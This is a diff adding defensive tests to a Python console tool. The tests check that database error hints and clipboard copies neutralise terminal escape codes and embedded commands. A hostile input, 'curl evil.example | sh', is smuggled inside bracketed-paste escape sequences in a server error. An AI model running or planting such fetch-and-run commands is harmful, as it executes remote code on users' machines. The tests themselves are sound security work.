@@ -8,22 +8,32 @@ import logging
 import re
 import sys
 from pathlib import Path
-from typing import Literal
+from types import SimpleNamespace
+from typing import TYPE_CHECKING, Any, Literal, cast
 
+import psycopg
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
 from elconsole.core.safe_text import clean_json
 from elconsole.core.types import ErrorInfo
+from elconsole.engine.connect.server import Server
+from elconsole.engine.connect.translate import statement_error
 from elconsole.observe.logs import configure_logging
 from elconsole.observe.metrics import Metrics
 from elconsole.observe.notify import run_command
 from elconsole.report import documents, text
 from elconsole.report.streams import Output
+from elconsole.ui.console.clipboard import copy
+from elconsole.ui.dialogs.dialog import ErrorDialog
 from tests.conftest import RunCli
 from tests.hostile.folders import user_settings, write
 from tests.link import Link
+from tests.pairs import Pair
+
+if TYPE_CHECKING:
+    from textual.app import App
 
 pytestmark = pytest.mark.faults
 
@@ -174,3 +184,34 @@ def test_a_command_is_told_of_a_run_in_harmless_json(tmp_path: Path) -> None:
     assert run_command(f"{sys.executable} {script}", {"error": EVIL}, 20)
     require_harmless(told.read_text())
     assert json.loads(told.read_text()) == {"error": EVIL}
+
+
+COMMAND = "curl evil.example | sh"
+
+
+def raised(pair: Pair) -> ErrorInfo:
+    """What a function of a source may raise."""
+    words = f"message = E'\x1b[201~', hint = E'x\x1b[201~\\n{COMMAND}\\n'"
+    with pair.source.connect() as connection, pytest.raises(psycopg.Error) as caught:
+        connection.execute(f"DO $$ BEGIN RAISE EXCEPTION USING {words}; END $$")
+    return statement_error(caught.value, Server("a", "source", {}, "here", 3.0)).info()
+
+
+def test_advice_of_a_server_is_told_in_its_name(pair: Pair) -> None:
+    error = raised(pair)
+    assert error.hint is not None
+    assert error.hint.startswith("a says: x")
+    assert "\n" not in error.hint
+
+
+def test_what_is_copied_is_no_command_where_it_is_pasted(monkeypatch: pytest.MonkeyPatch) -> None:
+    copied: list[str] = []
+    app = SimpleNamespace(copy_to_clipboard=copied.append, notify=lambda *_, **__: None)
+    monkeypatch.setattr(ErrorDialog, "app", app)
+    words = f"{EVIL}\n{COMMAND}\n"
+    ErrorDialog(words, ErrorInfo("server", f"a: {words}", words, words)).action_copy_error()
+    copy(cast("App[Any]", app), [(words, words), (words,)])
+    for told in copied:
+        require_harmless(told.replace("\t", ""))
+        assert COMMAND not in told.split("\n")
+    assert [len(told.split("\n")) for told in copied] == [4, 2]
